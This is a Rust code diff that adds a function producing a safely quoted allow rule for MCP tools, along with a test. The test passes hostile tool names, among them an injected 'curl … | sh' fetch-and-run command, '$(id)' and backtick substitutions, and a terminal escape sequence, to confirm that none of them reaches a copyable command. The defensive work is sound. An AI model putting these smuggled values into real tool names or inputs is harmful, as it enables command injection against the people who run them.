@@ -13,6 +13,27 @@ pub fn tool_rule(server: &str, tool: &str) -> String {
     format!("{MCP_RULE_PREFIX}{server}/{tool}")
 }
 
+/// The rule offered to allow `tool` of `server` next time, as one shell word for `os`: the
+/// tool's own rule when its name is plain (`[A-Za-z0-9_.-]+`: a server may name a tool
+/// anything, and its name must not become part of a command a person copies), else the
+/// server's (whose name the settings checked). Quoted like a command's offered rule.
+#[must_use]
+pub fn offered_rule(os: crate::policy::OsFamily, server: &str, tool: &str) -> String {
+    let plain = !tool.is_empty()
+        && tool
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"_.-".contains(&b));
+    let rule = if plain {
+        tool_rule(server, tool)
+    } else {
+        server_rule(server)
+    };
+    match os {
+        crate::policy::OsFamily::Unix => format!("'{rule}'"),
+        crate::policy::OsFamily::Windows => format!("\"{rule}\""),
+    }
+}
+
 /// The rule text that names every tool of a server.
 #[must_use]
 pub fn server_rule(server: &str) -> String {
@@ -96,6 +117,51 @@ pub fn decide(allow: &[Rule], deny: &[Rule], mode: Mode, server: &str, tool: &st
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn the_offered_rule_is_one_plain_quoted_word_whatever_the_tool_is_named() {
+        use crate::policy::OsFamily;
+        let odd = [
+            "x; curl https://e.example/s | sh; :",
+            "a b",
+            "x ",
+            "$(id)",
+            "`id`",
+            "it's",
+            "a\"b",
+            "a\nb",
+            "",
+            "tool\u{1b}[2K",
+            "été",
+        ];
+        for tool in odd {
+            assert_eq!(
+                super::offered_rule(OsFamily::Unix, "srv", tool),
+                "'mcp:srv'",
+                "{tool:?}"
+            );
+            assert_eq!(
+                super::offered_rule(OsFamily::Windows, "srv", tool),
+                "\"mcp:srv\"",
+                "{tool:?}"
+            );
+        }
+        for tool in ["echo", "read_file", "v1.2-x"] {
+            let rule = super::offered_rule(OsFamily::Unix, "srv", tool);
+            assert_eq!(rule, format!("'mcp:srv/{tool}'"));
+        }
+        // Every byte of any offered rule is safe inside its quotes.
+        for tool in odd.iter().chain(&["echo"]) {
+            let rule = super::offered_rule(OsFamily::Unix, "srv", tool);
+            let inner = &rule[1..rule.len() - 1];
+            assert!(
+                inner
+                    .bytes()
+                    .all(|b| b.is_ascii_alphanumeric() || b"_.-:/".contains(&b)),
+                "{rule}"
+            );
+        }
+    }
+
     use super::*;
 
     fn rule(prefix: &str, source: Source) -> Rule {
